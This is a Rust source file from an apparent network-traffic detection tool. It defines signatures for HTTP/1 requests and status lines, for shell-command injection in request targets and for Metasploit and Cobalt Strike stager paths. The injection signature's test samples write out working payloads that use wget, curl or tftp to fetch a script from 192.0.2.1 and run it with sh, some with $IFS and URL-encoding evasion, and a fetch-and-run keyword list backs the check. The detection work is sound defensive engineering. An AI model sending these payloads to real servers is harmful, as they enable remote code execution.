//! HTTP/1: request line with host, status line with server (RFC 9112).

use super::{Payload, Sender, Signature, first_line, quote};
use crate::class::{Class, Weight};
use crate::port::Transport;

/// Methods of RFC 9110 and `WebDAV`.
const METHODS: [&[u8]; 14] = [
    b"GET",
    b"POST",
    b"HEAD",
    b"PUT",
    b"DELETE",
    b"OPTIONS",
    b"PATCH",
    b"TRACE",
    b"CONNECT",
    b"PROPFIND",
    b"SEARCH",
    b"REPORT",
    b"MKCOL",
    b"LOCK",
];
/// A field is looked for in this many bytes, no further.
const HEAD: usize = 2048;

fn request(payload: &Payload<'_>) -> Option<String> {
    if payload.transport != Transport::Tcp || !payload.bytes.first()?.is_ascii_uppercase() {
        return None;
    }
    // Most payloads are told apart here.
    if !is_request(payload.bytes) {
        return None;
    }
    let (method, target) = request_line(payload.bytes)?;
    let host = field(payload.bytes, b"host").map_or_else(String::new, |host| format!(" to {}", quote(host)));
    Some(format!("{} {}{host}", quote(method), quote(target)))
}

/// Method and target of a request. Targets are quoted as they are sent: botnets and bad scripts leave blanks in them. The
/// first protocol had neither version nor anything behind the line (HTTP/0.9); other protocols ask so for a key, but none for a
/// path.
fn request_line(bytes: &[u8]) -> Option<(&[u8], &[u8])> {
    let line = first_line(bytes);
    let (method, rest) = line.split_at(memchr::memchr(b' ', line)?);
    let version = memchr::memmem::rfind(rest, b" HTTP/1.");
    let target = match version {
        Some(at) => &rest[..at],
        None if method == b"GET" && rest.starts_with(b" /") && bytes.len() <= line.len() + 2 && ends_line(bytes) => {
            rest
        }
        None => return None,
    };
    let target = target.trim_ascii();
    (METHODS.contains(&method) && !target.is_empty()).then_some((method, target))
}

fn ends_line(bytes: &[u8]) -> bool {
    bytes.last() == Some(&b'\n')
}

fn response(payload: &Payload<'_>) -> Option<String> {
    payload.bytes.strip_prefix(b"HTTP/1.")?;
    let line = first_line(payload.bytes);
    let rest = line.strip_prefix(b"HTTP/1.")?;
    let &[version, b' ', a, b, c, ref reason @ ..] = rest else { return None };
    let is_status = version.is_ascii_digit()
        && [a, b, c].iter().all(u8::is_ascii_digit)
        && reason.first().is_none_or(|&b| b == b' ');
    if payload.transport != Transport::Tcp || !is_status {
        return None;
    }
    let server = field(payload.bytes, b"server").map_or_else(String::new, |server| format!(" by {}", quote(server)));
    Some(format!("status {}{server}", quote(&[a, b, c])))
}

/// Whether these bytes begin with a method and a space.
#[must_use]
pub fn is_request(bytes: &[u8]) -> bool {
    let word = memchr::memchr(b' ', &bytes[..bytes.len().min(9)]);
    word.is_some_and(|end| METHODS.contains(&&bytes[..end]))
}

/// The value of a header field, its name in lower case.
fn field<'a>(head: &'a [u8], name: &[u8]) -> Option<&'a [u8]> {
    head[..head.len().min(HEAD)].split(|&byte| byte == b'\n').skip(1).take_while(|line| line.len() > 1).find_map(
        |line| {
            let colon = memchr::memchr(b':', line)?;
            line[..colon].eq_ignore_ascii_case(name).then(|| line[colon + 1..].trim_ascii())
        },
    )
}

/// What follows the head of a message, where both are in these bytes.
#[must_use]
pub fn body(bytes: &[u8]) -> Option<&[u8]> {
    if !bytes.first()?.is_ascii_uppercase() {
        return None;
    }
    let is_head = bytes.starts_with(b"HTTP/1.") || METHODS.iter().any(|method| bytes.starts_with(method));
    let end = is_head.then(|| memchr::memmem::find(&bytes[..bytes.len().min(HEAD)], b"\r\n\r\n"))??;
    Some(&bytes[end + 4..])
}

pub const REQUEST: Signature = Signature {
    id: "http.request",
    protocol: "http",
    about: "An HTTP/1 request line: a method, a target and the protocol's version.",
    class: Class::Custom,
    weight: Weight::STRONG,
    attack: Some("T1071.001"),
    sender: Sender::Client,
    see: request,
    hits: &[
        (Transport::Tcp, b"GET /status HTTP/1.1\r\nHost: meter.test\r\n\r\n"),
        (Transport::Tcp, b"GET /a name with blanks  HTTP/1.1\r\n\r\n"),
        (Transport::Tcp, b"GET  /two-blanks HTTP/1.0\r\n\r\n"),
        (Transport::Tcp, b"GET /first.html\r\n"),
        (Transport::Tcp, b"POST /a HTTP/1.0\r\n\r\nx=1"),
    ],
    misses: &[
        (Transport::Tcp, b"GET key\r\n"),
        (Transport::Tcp, b"HTTP/1.1 200 OK\r\n\r\n"),
        (Transport::Udp, b"GET / HTTP/1.1\r\n\r\n"),
        (Transport::Tcp, b"OPTIONS rtsp://cam/1 RTSP/1.0\r\n\r\n"),
    ],
};

pub const RESPONSE: Signature = Signature {
    id: "http.response",
    protocol: "http",
    about: "An HTTP/1 status line.",
    class: Class::Custom,
    weight: Weight::STRONG,
    attack: Some("T1071.001"),
    sender: Sender::Server,
    see: response,
    hits: &[(Transport::Tcp, b"HTTP/1.1 200 OK\r\nServer: nginx\r\n\r\n"), (Transport::Tcp, b"HTTP/1.0 404\r\n")],
    misses: &[
        (Transport::Tcp, b"HTTP/2.0 200 OK\r\n"),
        (Transport::Tcp, b"HTTP/1.1 2000\r\n"),
        (Transport::Tcp, b"RTSP/1.0 200 OK\r\n"),
    ],
};

/// Bytes of a target that are looked at.
const MAX_TARGET: usize = 1024;

/// A command in a request's target: behind a character with which a shell begins another command, one that fetches a program or
/// makes it run.
fn injection(payload: &Payload<'_>) -> Option<String> {
    if payload.transport != Transport::Tcp || !is_request(payload.bytes) {
        return None;
    }
    let (_, target) = request_line(payload.bytes)?;
    let target = unquoted(&target[..target.len().min(MAX_TARGET)]);
    let fetches = commands(&target).filter(|(word, rest)| {
        let end = rest.iter().position(|byte| b";|&\n".contains(byte)).unwrap_or(rest.len());
        let argument = &rest[..end];
        let names =
            memchr::memmem::find(argument, b"://").is_some() || argument.split(|byte| *byte == b' ').any(is_host);
        FETCHERS.contains(word) && names
    });
    let runs = commands(&target).filter(|(word, rest)| {
        RUNNERS.contains(word)
            || (*word == b"cd" && PLACES.iter().any(|place| rest.trim_ascii_start().starts_with(place)))
    });
    (fetches.count() > 0 || runs.count() >= 2).then(|| quote(target.trim_ascii()))
}

/// The commands in a target: the word behind a character with which a shell begins one, without its folder and what runs it, and
/// what follows the word.
fn commands(target: &[u8]) -> impl Iterator<Item = (&[u8], &[u8])> {
    let begins = std::iter::once(0)
        .chain(target.iter().zip(1..).filter(|(byte, _)| b";|&`(\n{".contains(byte)).map(|(_, at)| at));
    begins.filter_map(|at| {
        let mut rest = target.get(at..)?.trim_ascii_start();
        loop {
            let end = rest.iter().position(|byte| b" ,;|&`)\n}".contains(byte)).unwrap_or(rest.len());
            let (word, after) = rest.split_at(end);
            let name = memchr::memrchr(b'/', word).map_or(word, |slash| &word[slash + 1..]);
            // `busybox wget …`, `sudo wget …`
            if !matches!(name, b"busybox" | b"sudo" | b"nohup" | b"exec") || after.is_empty() {
                return (!name.is_empty()).then_some((name, after));
            }
            rest = after.get(1..)?.trim_ascii_start();
        }
    })
}

/// Commands that fetch a program, and those that make it run, as injections have them.
const FETCHERS: [&[u8]; 6] = [b"wget", b"curl", b"tftp", b"ftpget", b"fetch", b"lynx"];
const RUNNERS: [&[u8]; 4] = [b"chmod", b"rm", b"sh", b"bash"];
const PLACES: [&[u8]; 3] = [b"/tmp", b"/var", b"/dev/shm"];

/// Whether a word begins with an IPv4 address.
fn is_host(word: &[u8]) -> bool {
    let end = word.iter().position(|byte| !byte.is_ascii_digit() && *byte != b'.').unwrap_or(word.len());
    std::str::from_utf8(&word[..end]).is_ok_and(|text| text.parse::<std::net::Ipv4Addr>().is_ok())
}

/// A target without percent signs and with blanks for plus signs.
fn unquoted(target: &[u8]) -> Vec<u8> {
    let mut plain = Vec::with_capacity(target.len());
    let mut rest = target;
    while let Some((&byte, tail)) = rest.split_first() {
        let hex = |at: usize| tail.get(at).and_then(|digit| char::from(*digit).to_digit(16));
        let (value, used) = match (byte, hex(0), hex(1)) {
            (b'%', Some(0), Some(9)) => (b' ', 2),
            (b'%', Some(high), Some(low)) => (u8::try_from(high * 16 + low).unwrap_or(b'?'), 2),
            // A shell's own blank.
            (b'$', ..) if tail.starts_with(b"{IFS}") => (b' ', 5),
            (b'$', ..) if tail.starts_with(b"IFS") => (b' ', 3),
            (b'+' | b'\t', ..) => (b' ', 0),
            _ => (byte, 0),
        };
        plain.push(value);
        rest = &tail[used..];
    }
    plain
}

pub const INJECTION: Signature = Signature {
    id: "http.injection",
    protocol: "http",
    about: "A request whose target holds a shell command that fetches a program or makes it run, behind a character that begins a command: an \
attack on the server, whether it works or not.",
    class: Class::Suspicious,
    weight: Weight::STRONG,
    attack: Some("T1190"),
    sender: Sender::Client,
    see: injection,
    hits: &[
        (Transport::Tcp, b"GET /shell?cd+/tmp;rm+-rf+*;wget+ http://192.0.2.1/a.sh;sh+/tmp/a.sh HTTP/1.1\r\n\r\n"),
        (Transport::Tcp, b"GET /a?x=%0awget+http://192.0.2.1/a HTTP/1.1\r\n"),
        (Transport::Tcp, b"GET /a?x=;cd${IFS}/var/tmp;wget${IFS}http://192.0.2.1/a HTTP/1.1\r\n"),
        (Transport::Tcp, b"GET /a?x=;/bin/busybox+tftp+-g+-r+m.sh+192.0.2.1 HTTP/1.1\r\n"),
        (Transport::Tcp, b"GET /a?x=;{wget,http://192.0.2.1/a} HTTP/1.1\r\n"),
        (Transport::Tcp, b"GET /cgi?q=x%3Bcurl%20http%3A%2F%2F192.0.2.1%2Fa%7Csh HTTP/1.0\r\n\r\n"),
    ],
    misses: &[
        (Transport::Tcp, b"GET /search?q=wget+http://example.test/file HTTP/1.1\r\n\r\n"),
        (Transport::Tcp, b"GET /docs?a=1;b=chmod+explained HTTP/1.1\r\n\r\n"),
        (Transport::Tcp, b"GET /pub/tmp/cd.iso HTTP/1.1\r\n\r\n"),
    ],
};

/// Sums of a path's characters, modulo 256, that Metasploit's and Cobalt Strike's stagers ask with.
const STAGER_SUMS: [(u8, &str); 5] =
    [(92, "Windows or native"), (93, "64-bit Windows"), (80, "Python"), (88, "Java"), (98, "a connecting session")];
/// Stagers choose at least as many characters, and no slash or dot among them.
const MIN_STAGER: usize = 4;

fn stager(payload: &Payload<'_>) -> Option<String> {
    let path = payload.bytes.strip_prefix(b"GET /").filter(|_| payload.transport == Transport::Tcp)?;
    let end = memchr::memchr(b' ', &path[..path.len().min(200)])?;
    let (path, rest) = path.split_at(end);
    let random = path.len() >= MIN_STAGER
        && path.iter().all(|byte| byte.is_ascii_alphanumeric() || b"-_".contains(byte))
        && path.iter().any(u8::is_ascii_uppercase)
        && path.iter().any(u8::is_ascii_lowercase);
    let sum = path.iter().fold(0u8, |sum, byte| sum.wrapping_add(*byte));
    let (_, kind) = STAGER_SUMS.iter().find(|(known, _)| *known == sum)?;
    (random && rest.starts_with(b" HTTP/1.")).then(|| format!("/{}: characters add up to {sum}, {kind}", quote(path)))
}

pub const STAGER: Signature = Signature {
    id: "http.stager",
    protocol: "http",
    about: "A request whose path is a random word with the checksum that Metasploit's and Cobalt Strike's stagers use. One random word in \
fifty has one of them: a hint.",
    class: Class::Suspicious,
    weight: Weight(20), // twice a hint: with an odd port it makes a weak verdict
    attack: Some("T1104"),
    sender: Sender::Client,
    see: stager,
    hits: &[(Transport::Tcp, b"GET /Ab3aaac HTTP/1.1\r\nHost: a\r\n\r\n")],
    misses: &[(Transport::Tcp, b"GET /index.html HTTP/1.1\r\n\r\n"), (Transport::Tcp, b"GET /Status HTTP/1.1\r\n\r\n")],
};

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn host_and_server_are_quoted() {
        let see = |signature: &Signature, bytes| (signature.see)(&Payload::whole(Transport::Tcp, bytes));
        assert_eq!(see(&REQUEST, REQUEST.hits[0].1).as_deref(), Some("GET /status to meter.test"));
        assert_eq!(see(&RESPONSE, RESPONSE.hits[0].1).as_deref(), Some("status 200 by nginx"));
        assert_eq!(body(b"HTTP/1.1 200 OK\r\n\r\nMZ"), Some(&b"MZ"[..]));
    }
}
